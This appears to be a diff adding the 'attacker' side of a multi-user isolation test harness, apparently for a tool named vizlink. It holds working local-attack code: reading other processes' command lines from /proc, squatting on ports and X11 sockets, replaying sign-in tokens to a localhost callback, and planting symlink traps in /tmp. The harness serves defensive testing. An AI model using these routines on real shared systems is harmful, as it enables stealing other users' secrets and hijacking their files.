@@ -1,0 +1,165 @@
+/** The second user: no group, no file and no password in common with the first, but the machine and everything that root sees. */
+import { mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
+import { createServer, connect, type Server } from 'node:net'
+import { join } from 'node:path'
+import { serveCommands } from './commands.ts'
+import { fileAttacks } from './attack-files.ts'
+import { hostAttacks, type OwnCertificate } from './attack-host.ts'
+import { datagramAttacks } from './attack-datagrams.ts'
+import { processAttacks } from './attack-processes.ts'
+import { portAttacks } from './attack-ports.ts'
+import { socketAttacks } from './attack-sockets.ts'
+import { delay } from './attack-kit.ts'
+import type { Outcome, World } from './world.ts'
+
+/** No attack takes as long. */
+const deadlineMs = 15_000
+const home = process.env.HOME ?? '/'
+let own: OwnCertificate = { key: '', cert: '' }
+let watching = false
+let commandLines = new Set<string>()
+const planted: string[] = []
+/** What listens in somebody's place, and what came to it. */
+let squatters: Server[] = []
+let visitors: string[] = []
+
+async function listenAt(where: { host: string; port: number } | { path: string }): Promise<string | null> {
+  const server = createServer((socket) => {
+    socket.on('error', () => undefined)
+    socket.on('data', (data: Buffer) => void visitors.push(data.toString('latin1').slice(0, 300)))
+  })
+  const failed = await new Promise<string | null>((resolve) => {
+    server.once('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? 'error'))
+    server.listen({ ...where, exclusive: true }, () => resolve(null))
+  })
+  if (failed === null) squatters.push(server)
+  return failed
+}
+
+const handlers = {
+  prepare(given: OwnCertificate) {
+    own = given
+  },
+  /** @param inTurn one after the other; otherwise side by side */
+  async attack({
+    names,
+    world,
+    inTurn = false,
+  }: {
+    names: string[]
+    world: World
+    inTurn?: boolean
+  }): Promise<Record<string, Outcome>> {
+    const all = {
+      ...fileAttacks,
+      ...processAttacks,
+      ...socketAttacks,
+      ...portAttacks,
+      ...datagramAttacks,
+      ...hostAttacks(own),
+    }
+    const one = async (name: string): Promise<[string, Outcome]> => {
+      const attack = all[name]
+      if (!attack) throw new Error(`no such attack: ${name}`)
+      const late = delay(deadlineMs, null, { ref: false }).then(() =>
+        Promise.reject(new Error(`${name} hangs`)),
+      )
+      return [name, await Promise.race([attack(world), late])]
+    }
+    if (!inTurn) return Object.fromEntries(await Promise.all(names.map(one)))
+    const outcomes: [string, Outcome][] = []
+    for (const name of names) outcomes.push(await one(name))
+    return Object.fromEntries(outcomes)
+  },
+  /** Looks at all command lines as often as it can. */
+  watchCommandLines() {
+    watching = true
+    const known = new Set<string>()
+    const look = (): void => {
+      if (!watching) return
+      for (const pid of readdirSync('/proc')) {
+        if (!/^\d/.test(pid) || known.has(pid)) continue
+        try {
+          const line = readFileSync(`/proc/${pid}/cmdline`, 'utf8')
+          // A process shows its parent's words until it has its own.
+          if (commandLines.has(line)) known.add(pid)
+          commandLines.add(line)
+        } catch {
+          known.add(pid)
+        }
+      }
+      setTimeout(look, 8)
+    }
+    look()
+  },
+  commandLinesSeen(): Outcome {
+    watching = false
+    const seen = [...commandLines]
+    commandLines = new Set()
+    return { tried: seen.length, gained: [], seen }
+  },
+  /** Listens in the place of the user's programs. @returns those that could be had */
+  async squat({ ports, displays }: { ports: { host: string; port: number }[]; displays: number[] }) {
+    const got: string[] = []
+    for (const { host, port } of ports)
+      if ((await listenAt({ host, port })) === null) got.push(`${host}:${port}`)
+    for (const number of displays) {
+      const path = `/tmp/.X11-unix/X${number}`
+      if ((await listenAt({ path: `\0${path}` })) === null) got.push(`@${path}`)
+    }
+    return got
+  },
+  /** Gives the places back. @returns what came there */
+  unsquat(): string[] {
+    for (const server of squatters) server.close()
+    squatters = []
+    const came = visitors
+    visitors = []
+    return came
+  },
+  /** Says something at the port where browsers bring a sign-in back. @returns the answers' first lines */
+  async handOff({ tokens, port }: { tokens: string[]; port: number }): Promise<string[]> {
+    const answers: string[] = []
+    for (const token of tokens) {
+      for (const host of ['127.0.0.1', '::1']) {
+        const socket = connect({ host, port })
+        const answer = new Promise<string>((resolve) => {
+          let text = ''
+          socket.setEncoding('latin1').on('data', (chunk: string) => (text += chunk))
+          socket.once('close', () => resolve(text.split('\r\n')[0] ?? ''))
+          socket.once('error', () => resolve(''))
+          setTimeout(() => socket.destroy(), 1500).unref()
+        })
+        socket.write(
+          `GET /auth/callback?token=${token} HTTP/1.1\r\nHost: localhost:${port}\r\nSec-Fetch-Dest: document\r\nConnection: close\r\n\r\n`,
+        )
+        answers.push(await answer)
+      }
+    }
+    return answers
+  },
+  /** Puts links and folders under names that the user's programs have had, or would give to what they left. */
+  plant({ names, target }: { names: string[]; target: string }) {
+    const trap = join(home, 'trap')
+    mkdirSync(trap, { recursive: true, mode: 0o777 })
+    for (const name of names) {
+      try {
+        symlinkSync(join(trap, `${planted.length}`), name)
+        planted.push(name)
+      } catch {
+        // There is one already.
+      }
+    }
+    const gone = 4_190_000
+    symlinkSync(target, `/tmp/vizlink-browser-${gone}-abcdef`)
+    const folder = `/tmp/vizlink-sign-in-${gone}-abcdef`
+    mkdirSync(folder, { mode: 0o777 })
+    symlinkSync(target, join(folder, 'data'))
+    writeFileSync(join(folder, 'vizlink.html'), 'mallory')
+    return planted.length
+  },
+  /** What went where a planted link leads. */
+  trapped: (): string[] => readdirSync(join(home, 'trap')),
+}
+export type AttackerCommands = typeof handlers
+serveCommands(handlers)
